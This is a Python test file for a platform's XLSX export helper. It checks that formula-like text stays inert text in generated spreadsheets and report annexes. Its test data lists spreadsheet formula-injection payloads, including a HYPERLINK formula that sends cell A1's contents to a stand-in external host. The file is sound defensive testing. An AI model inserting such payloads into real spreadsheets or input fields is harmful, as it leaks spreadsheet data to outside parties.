"""Text that starts like a formula (=, +, -, @, tab, CR) stays text in every XLSX the platform writes: the helper
itself, the knowledge base's map export and the council report's annex (the survey results export uses the same
helper)."""

from __future__ import annotations

import io

from openpyxl import Workbook, load_workbook

from yhteiso.core.spreadsheets import FORMULA_STARTS, safe_append

EVIL = ['=HYPERLINK("http://example.invalid/?"&A1,"klikkaa")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]


def _reopened(book: Workbook):
    buf = io.BytesIO()
    book.save(buf)
    return load_workbook(io.BytesIO(buf.getvalue()))


def test_formula_like_text_is_stored_as_text_and_numbers_stay_numbers():
    book = Workbook()
    safe_append(book.active, [*EVIL, "Espoo", 3.5, -2])
    cells = next(_reopened(book).active.iter_rows())
    assert [(c.value, c.data_type) for c in cells[: len(EVIL)]] == [(v, "s") for v in EVIL]
    assert (cells[-3].value, cells[-2].value, cells[-1].value) == ("Espoo", 3.5, -2)
    assert cells[-2].data_type == "n" and set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_the_report_annex_keeps_formula_like_text_as_text():
    import datetime as dt

    from django.utils import translation

    from yhteiso.reports import renderers
    from yhteiso.reports.highlights import convert
    from yhteiso.reports.tests.test_highlights import RAW, square
    from yhteiso.reports.tests.test_snapshot import minimal

    raw = dict(RAW, status_index_map={"level": "small_area", "year": 2025, "features": [
        {"code": "A", "name": EVIL[0], "geometry": square(24.6, 60.2), "value": 76.17},
        {"code": "B", "name": "Tapiola", "geometry": square(24.8, 60.17), "value": 112.4}]})
    with translation.override("fi"):
        snapshot = dict(minimal(), highlights=convert(raw, as_of=dt.date(2026, 12, 31)))
    book = load_workbook(io.BytesIO(renderers.render_xlsx(snapshot)))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith("=")]
    assert cells and all(c.data_type == "s" for c in cells)
